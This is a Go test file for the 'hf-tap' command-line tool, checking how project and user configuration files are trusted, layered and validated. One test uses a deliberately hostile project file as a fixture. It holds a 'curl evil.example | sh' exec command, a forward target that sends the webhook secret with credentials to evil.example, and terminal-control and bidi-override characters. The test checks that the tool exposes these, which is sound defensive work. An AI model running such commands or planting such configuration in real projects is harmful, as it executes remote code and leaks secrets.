package cli_test

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hf-tap/hf-tap/internal/testserver/porttest"
)

// project makes the program run in a folder with a project's file, and returns its path.
func (w *world) project(text string) string {
	w.t.Helper()
	dir, err := filepath.EvalSymlinks(w.t.TempDir())
	if err != nil {
		w.t.Fatal(err)
	}
	w.dir = dir
	return w.write(filepath.Join(dir, ".hf-tap.toml"), text)
}

// ownConfig makes the user's own file, and returns its path.
func (w *world) ownConfig(text string) string {
	w.t.Helper()
	path := filepath.Join(w.t.TempDir(), "config.toml")
	w.env = append(w.env, "HF_TAP_CONFIG="+path)
	return w.write(path, text)
}

func (w *world) write(path, text string) string {
	w.t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		w.t.Fatal(err)
	}
	return path
}

// without removes a variable from the environment.
func (w *world) without(name string) {
	var env []string
	for _, kv := range w.env {
		if !strings.HasPrefix(kv, name+"=") {
			env = append(env, kv)
		}
	}
	w.env = env
}

// failsWith runs the program, which has to end with an error and a hint that hold texts.
func (w *world) failsWith(code int, args []string, texts ...string) {
	w.t.Helper()
	p := w.run(code, args...)
	got := p.stderr.text()
	for _, text := range texts {
		if !strings.Contains(got, text) {
			w.t.Errorf("%q does not say %q:\n%s", args, text, got)
		}
	}
	if lines := strings.Split(got, "\n"); len(lines) < 2 || !strings.HasPrefix(lines[len(lines)-2], "error: ") || !strings.HasPrefix(lines[len(lines)-1], "hint: ") {
		w.t.Errorf("%q has no error with a hint:\n%s", args, got)
	}
}

// shown is what config show --json prints of each key: the value and where it is from.
func (w *world) shown(args ...string) map[string]string {
	w.t.Helper()
	var got struct {
		Settings []struct {
			Key, From, Source string
			Value             json.RawMessage
			Line              int
		}
	}
	out := w.run(0, append([]string{"config", "show", "--json"}, args...)...).stdout.text()
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		w.t.Fatalf("%v: %s", err, out)
	}
	all := map[string]string{}
	for _, s := range got.Settings {
		var value bytes.Buffer
		if err := json.Compact(&value, s.Value); err != nil {
			w.t.Fatal(err)
		}
		all[s.Key] = value.String() + " " + s.Source
		if s.From != "" {
			all[s.Key] += " " + filepath.Base(s.From)
		}
	}
	return all
}

func TestAProjectsFileIsInertUntilItIsTrusted(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	app := newApp(t, "127.0.0.1:0")
	path := w.project("watch = ['model:me/m']\nforward = ['discussion.*=" + app.port + "']\ndomain = ['discussion']\n")

	w.failsWith(1, []string{"listen", "--count", "1"}, "error: "+path+" is not trusted\n", "hint: hf-tap config trust")
	w.failsWith(2, []string{"listen", "--forward", "nowhere"}, "nowhere") // what is typed wrongly comes first
	w.failsWith(2, []string{"config", "trust"}, "needs a terminal", "hf-tap config trust --yes")
	w.nothingDone()
	if got := w.shown(); got["forward"] != "[] default" {
		t.Errorf("the file takes effect: %s", got["forward"])
	}
	// Commands that do not use it do not mind it.
	for _, args := range [][]string{{"events", "ls"}, {"webhooks", "ls"}, {"secret"}, {"config", "show"}, {}} {
		w.run(0, args...)
	}
	w.run(1, "doctor", "--forward", porttest.Port(t)) // for the target

	shown := w.run(0, "config", "trust", "--yes")
	if out := shown.stdout.text(); !strings.Contains(out, "  | watch = ['model:me/m']") {
		t.Errorf("it does not show the file: %s", out)
	}
	p := w.start("listen", "--count", "1")
	p.wait(p.stderr, "using watch, domain, forward from "+path)
	p.ready()
	w.happen("discussion.create")
	p.ends(0)
	if len(app.ids()) != 1 {
		t.Errorf("the target got %q", app.ids())
	}
	w.nothingLeft()

	// A change ends the trust, also one in a comment.
	w.write(path, "watch = ['model:me/m'] # changed\n")
	w.failsWith(1, []string{"listen"}, path+" has changed since it was trusted")
	w.run(0, "config", "trust", "--yes")
	w.run(0, "listen", "--wait", "1ms")
	w.run(0, "config", "trust", "--forget")
	w.failsWith(1, []string{"listen", "--no-config=false"}, path+" is not trusted")

	ignored := w.run(0, "listen", "model:me/m", "--wait", "1ms", "--no-config")
	if strings.Contains(ignored.stderr.text(), path) {
		t.Errorf("it is not ignored: %s", ignored.stderr.text())
	}
}

// nothingDone checks that no session was there.
func (w *world) nothingDone() {
	w.t.Helper()
	if _, err := os.Stat(filepath.Join(w.state, "leases")); err == nil {
		w.t.Error("a session was started")
	}
}

func TestAFileThatCannotBeTrustedIsRefused(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	path := w.project("retry = 1\n")
	w.run(0, "config", "trust", "--yes")
	for _, c := range []struct {
		change func() error
		want   string
		code   int
	}{
		{func() error { return os.Chmod(path, 0o666) }, "can be changed by other users (mode 0666)\nhint: chmod go-w " + path, 1},
		{func() error { return os.Rename(path, path+".real") }, "", 0},
		{func() error { return os.Symlink(path+".real", path) }, "is a symbolic link", 1},
		{func() error { return os.Remove(path) }, "", 0},
		{func() error { return os.Mkdir(path, 0o700) }, "is a folder", 1},
		{func() error { return os.Remove(path) }, "", 0},
		{func() error { return os.WriteFile(path, make([]byte, 10<<20), 0o600) }, "is larger than 64 KiB", 1},
		{func() error { return os.WriteFile(path, []byte("retry = 1\nwait-target = '1m'\n"), 0o600) }, path + `:2:1: unknown key "wait-target"` + "\nhint: did you mean wait_target?", 2},
		{func() error { return os.WriteFile(path, []byte("token = 'x'\n"), 0o600) }, path + ":1:1: token is read from your own configuration only", 2},
		{func() error { return os.WriteFile(path, []byte("forward = '\xff'\n"), 0o600) }, path + ":1:12: the file is not text in UTF-8", 2},
		{func() error { return os.WriteFile(path, []byte("\x1b]0;x = '\u202e'\n"), 0o600) }, path + ":1:1: ", 2},
	} {
		if err := c.change(); err != nil {
			t.Fatal(err)
		}
		if c.code == 0 {
			continue
		}
		for _, args := range [][]string{{"listen"}, {"config", "show"}, {"config", "trust", "--yes"}} {
			w.failsWith(c.code, args, c.want)
		}
		w.run(0, "events", "ls")
		w.run(0, "webhooks", "ls")
	}
	w.nothingDone()
}

func TestWhatIsTrustedIsShownAsItIs(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.project("# \x1b[2J \u202e evil\r\nforward = ['https://me:pw@evil.example/x', '3000']\nexec = ['curl evil.example | sh']\n")
	// A control character is not TOML, in a comment neither.
	w.failsWith(2, []string{"config", "trust", "--yes"}, ".hf-tap.toml:1:3: ")
	w.write(filepath.Join(w.dir, ".hf-tap.toml"), "# \u202e evil\r\nforward = ['https://me:pw@evil.example/x', '3000']\nexec = ['curl evil.example | sh']\n")
	out := w.run(0, "config", "trust", "--yes").stdout.text()
	for _, want := range []string{
		`  | # \u202e evil` + "\n",
		"  | exec = ['curl evil.example | sh']\n",
		"it runs a command when events come: curl evil.example | sh\n",
		"it sends events, with the webhook's secret, to another host: https://me:***@evil.example/x",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("it does not show %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "another host: http://127.0.0.1:3000") {
		t.Errorf("a target on this machine is another host:\n%s", out)
	}
}

func TestFlagsGoBeforeTheEnvironmentAndThatBeforeFiles(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.project("forward = ['1111']\nretry = 1\n")
	w.run(0, "config", "trust", "--yes")
	w.ownConfig("endpoint = 'https://elsewhere.example'\ntoken = 'none'\nforward = ['2222']\nconcurrency = 2\nretry = 2\nproxy = 'http://me:pw@proxy:1'\n[history]\nmax_age = '30d'\n")
	for key, want := range map[string]string{
		"forward": `["http://127.0.0.1:1111"] file .hf-tap.toml`, "concurrency": `7 flag --concurrency`, "retry": `1 file .hf-tap.toml`, "watch": `["model:me/x"] flag arguments`,
		"endpoint": `"` + w.endpoint + `" variable HF_ENDPOINT`, "token": `"***" variable HF_TOKEN`, "history.max_age": `"30d" file config.toml`,
		"proxy": `"http://me:xxxxx@proxy:1" file config.toml`, "respond": `"ack" default`, "until": `null default`,
	} {
		if got := w.shown("model:me/x", "--concurrency", "7")[key]; got != want {
			t.Errorf("%s is %s, want %s", key, got, want)
		}
	}
	if got := w.shown("--no-config")["forward"]; got != `["http://127.0.0.1:2222"] file config.toml` {
		t.Errorf("without the project's file, forward is %s", got)
	}
}

func TestTheUsersFileReachesTheHub(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	secret := w.secretFile("from a file")
	path := w.ownConfig("endpoint = '" + w.endpoint + "'\nsecret_file = '" + secret + "'\ntunnel = 'ngrok'\nngrok_domain = 'x.ngrok.app'\nproxy = 'http://127.0.0.1:1'\n")
	w.without("HF_ENDPOINT")
	if got := w.run(0, "secret").stdout.text(); got != "from a file" {
		t.Errorf("the secret is %q", got)
	}
	p := w.start("listen", "model:me/m")
	p.ready()
	id := w.left()[0]
	if got := w.secretOf(id); got != "from a file" {
		t.Errorf("the webhook has the secret %q", got)
	}
	kept := w.create("--url", exampleURL, "--use-kept-secret")
	if got := w.secretOf(kept); got != "from a file" {
		t.Errorf("a webhook with the kept secret has %q", got)
	}
	w.run(0, "webhooks", "delete", "--yes", kept)
	p.signal(os.Interrupt)
	p.ends(0)
	w.nothingLeft()

	w.failsWith(2, []string{"listen", "--new-secret"}, path+":2:1: secret_file: --new-secret and secret_file exclude each other")
	if err := os.Remove(secret); err != nil {
		t.Fatal(err)
	}
	w.failsWith(1, []string{"secret"}, path+":2:1: secret_file: ", "take secret_file out of "+path)
	w.env = append(w.env, "WEBHOOK_SECRET=from the environment")
	if got := w.run(0, "secret").stdout.text(); got != "from the environment" {
		t.Errorf("the secret is %q", got)
	}
	w.write(path, "ca = 'nowhere.pem'\n")
	w.env = append(w.env, "HF_ENDPOINT="+w.endpoint)
	for _, args := range [][]string{{"listen"}, {"webhooks", "ls"}, {"doctor"}} {
		w.failsWith(2, args, path+":1:1: ca: ", "hint: give ca a file that can be read")
	}
	w.write(path, "token = 'nobody'\n")
	w.failsWith(1, []string{"webhooks", "ls", "--token", "somebody"}, "somebody")
	w.run(0, "webhooks", "ls") // HF_TOKEN goes before it
	w.without("HF_TOKEN")
	w.failsWith(1, []string{"webhooks", "ls"}, path+":1:1: token: ", "nobody")
	w.write(path, "tokn = 'x'\n")
	w.failsWith(2, []string{"webhooks", "ls"}, path+`:1:1: unknown key "tokn"`, "did you mean token?")
	w.run(0, "events", "ls")
}

func TestAFlagLeavesNoPlaceForWhatContradictsItInAFile(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.project("watch = ['model:me/m']\ndomain = ['repo']\n")
	w.run(0, "config", "trust", "--yes")
	w.ownConfig("tunnel = 'public'\npublic_url = 'https://tunnel.example.com'\nport = 4567\nssh_domain = ['x.example']\n")
	w.run(0, "listen", "--no-webhook", "--wait", "1ms") // nothing to watch
	other := w.create("--url", exampleURL)
	w.run(0, "listen", "--like", other, "--wait", "1ms")
	w.run(0, "webhooks", "delete", "--yes", other)
	w.run(0, "listen", "--tunnel", "loopback", "--wait", "1ms")
	for _, c := range []struct{ args, key, want string }{
		{"", "tunnel", `"auto" default`}, // the Hub is on this machine
		{"--tunnel=gradio", "public_url", "null default"},
		{"--tunnel=public", "public_url", `"https://tunnel.example.com" file config.toml`},
		{"--tunnel=public", "port", "4567 file config.toml"},
		{"--public-url=https://other.example", "tunnel", `"public" file config.toml`},
	} {
		if got := w.shown(strings.Fields(c.args)...)[c.key]; got != c.want {
			t.Errorf("with %q, %s is %s, want %s", c.args, c.key, got, c.want)
		}
	}
	w.failsWith(2, []string{"listen", "--tunnel", "gradio", "--ssh-domain", "y.example"}, "--ssh-domain has no effect")
	w.nothingLeft()
}
